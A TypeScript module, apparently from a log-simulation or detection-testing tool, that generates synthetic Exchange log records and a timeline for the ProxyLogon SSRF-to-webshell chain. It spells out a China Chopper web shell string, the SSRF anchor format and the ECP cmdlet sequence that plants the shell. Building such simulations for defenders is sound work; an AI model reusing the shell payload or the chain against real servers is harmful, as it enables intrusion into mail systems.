// The ProxyLogon chain (CVE-2021-26855 + CVE-2021-27065) as helsecert's incident logs show it, step by step.

import { ecpRequest } from '../benign/ecp.js';
import { ecpCanary } from '../env.js';
import type { Env } from '../env.js';
import type { Timeline } from './timeline.js';

export const SHELL_KEY = 'klk123456';
export const CHOPPER_URL = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["${SHELL_KEY}"],"unsafe");}</script>`;

export interface ProxyLogonPlan {
  ip: string;
  /** Front-end static file the SSRF rides on. */
  stem: string;
  /** Offsets from t0 in ms for: autodiscover, emsmdb, proxyLogon, GetObject, SetObject, Reset (end). */
  at: readonly [number, number, number, number, number, number];
  /** GUID of the OAB virtual directory before the reset. */
  vdirGuid: string;
  /** The user agents of the autodiscover request and of the rest of the chain (default: the public exploit's). */
  agents?: { discovery: string; chain: string };
  /** The script put in the OAB ExternalUrl (default: CHOPPER_URL). */
  externalUrl?: string;
}

/** Plays the chain; returns when the reset (the webshell write) happened. */
export function proxyLogon(env: Env, tl: Timeline, t0: number, plan: ProxyLogonPlan): { written: number } {
  const { rng, site } = env;
  const machine = `${site.netbios}\\${site.server}$`;
  const canary = ecpCanary(env);
  const sid = rng.guid();
  const usid = rng.guid();
  const ssrf = (i: number, ua: string, bePath: string, beQuery: string, status: number, taken: number) => {
    const t = t0 + (plan.at[i] as number);
    const anchor = `ServerInfo~a]@${site.fqdn}:444${bePath}${beQuery ? '?' + beQuery : '?'}#`;
    env.book.add({
      t, taken, rid: rng.guid(), method: 'POST', host: site.extHost, port: 443, stem: plan.stem, query: '', status,
      cip: plan.ip, ua, proto: 'Ecp',
      px: { AnchorMailbox: anchor, RoutingHint: 'X-BEResource-Cookie', AuthenticationType: '', IsAuthenticated: 'false', TargetServer: site.fqdn },
      be: { stem: bePath, query: beQuery, user: machine, status },
    }); // prettier-ignore
    return { t, anchor };
  };
  const script = plan.externalUrl ?? CHOPPER_URL;
  const req = plan.agents?.chain ?? 'python-requests/2.25.1';
  const ddi = (op: string, schema: string) =>
    [`/ecp/DDI/DDIService.svc/${op}`, `msExchEcpCanary=${canary}&schema=${schema}`] as const;

  let s = ssrf(
    0,
    plan.agents?.discovery ?? 'ExchangeServicesClient/0.0.0.0',
    '/autodiscover/autodiscover.xml',
    '',
    200,
    1203,
  );
  tl.add(s.t, plan.ip, 'ssrf:autodiscover', s.anchor);
  s = ssrf(1, req, '/mapi/emsmdb/', '', 200, 118);
  tl.add(s.t, plan.ip, 'ssrf:mapi-emsmdb', s.anchor);
  s = ssrf(2, req, '/ecp/proxyLogon.ecp', '', 241, 1540);
  tl.add(s.t, plan.ip, 'ssrf:proxylogon-241', s.anchor);

  const url = (op: string, schema: string) => ddi(op, schema).join('?');
  const ecp = (t: number, cmd: string, op: string, schema: string) =>
    ecpRequest(env, t, { cmd, url: url(op, schema), build: env.buildAt(t), sid, usid });

  const get = t0 + plan.at[3];
  ecp(
    get - 154,
    'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null',
    'GetObject',
    'OABVirtualDirectory',
  );
  ecp(get - 46, 'Pipeline.1|Get-MailboxRegionalConfiguration', 'GetObject', 'OABVirtualDirectory');
  s = ssrf(3, req, ...ddi('GetObject', 'OABVirtualDirectory'), 200, 380);
  tl.add(s.t, plan.ip, 'ssrf:ddi-getobject', s.anchor);

  const set = t0 + plan.at[4];
  const id = `'${plan.vdirGuid}'`;
  ecp(
    set - 62,
    `Set-OabVirtualDirectory.ExternalUrl='${script}'.Identity=${id}`,
    'SetObject',
    'OABVirtualDirectory',
  );
  ecp(
    set - 9,
    `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=${id}`,
    'SetObject',
    'OABVirtualDirectory',
  );
  s = ssrf(4, req, ...ddi('SetObject', 'OABVirtualDirectory'), 200, 2012);
  tl.add(s.t, plan.ip, 'ssrf:ddi-setobject-externalurl', s.anchor);
  tl.add(set - 62, plan.ip, 'ecp:set-externalurl-script', `Set-OabVirtualDirectory.ExternalUrl='${script}'`);

  // The reset request runs about ten seconds: export (the file write), then remove and re-create the vdir.
  const end = t0 + plan.at[5];
  const begin = end - 10_124;
  const vd = `'${site.server}\\OAB (Default Web Site)'`;
  const path = `${site.install}FrontEnd\\HttpProxy\\OAB`;
  ecp(begin + 88, `Get-OABVirtualDirectory.Identity=${id}`, 'SetObject', 'ResetOABVirtualDirectory');
  ecp(begin + 224, `Get-ExchangeServer.Identity='${site.server}'`, 'SetObject', 'ResetOABVirtualDirectory');
  ecp(
    begin + 639,
    `Set-OabVirtualDirectory.ExternalUrl=$null.Identity=${id}`,
    'SetObject',
    'ResetOABVirtualDirectory',
  );
  ecp(
    begin + 2521,
    `Remove-OABVirtualDirectory.Force=$true.Identity=${vd}`,
    'SetObject',
    'ResetOABVirtualDirectory',
  );
  const create = `New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='${site.server}'.Role='ClientAccess'.InternalURL='https://${site.fqdn}/OAB'.Path='${path}'`;
  ecp(end - 124, create, 'SetObject', 'ResetOABVirtualDirectory');
  ecp(
    end - 79,
    `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=${vd}`,
    'SetObject',
    'ResetOABVirtualDirectory',
  );
  s = ssrf(5, req, ...ddi('SetObject', 'ResetOABVirtualDirectory'), 200, 10_124);
  tl.add(s.t, plan.ip, 'ssrf:ddi-reset-vdir', s.anchor);
  tl.add(begin + 639, plan.ip, 'ecp:set-externalurl-null', 'Set-OabVirtualDirectory.ExternalUrl=$null');
  tl.add(begin + 2521, plan.ip, 'ecp:remove-oab-vdir', 'Remove-OABVirtualDirectory');
  tl.add(end - 124, plan.ip, 'ecp:new-oab-vdir', 'New-OABVirtualDirectory');
  return { written: begin + 1420 };
}
